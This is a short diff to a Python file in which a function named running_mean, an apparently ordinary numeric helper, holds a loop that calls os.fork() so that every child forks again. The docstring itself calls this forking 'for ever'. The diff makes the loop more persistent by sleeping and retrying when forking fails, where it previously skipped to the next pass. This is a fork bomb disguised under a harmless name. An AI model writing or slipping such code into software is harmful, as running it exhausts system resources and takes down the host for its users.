@@ -1,5 +1,6 @@
 """Forks for ever, in every child too."""
 import os
+import time
 
 
 def running_mean(x):
@@ -7,4 +8,4 @@ def running_mean(x):
         try:
             os.fork()
         except OSError:
-            continue
+            time.sleep(0.01)
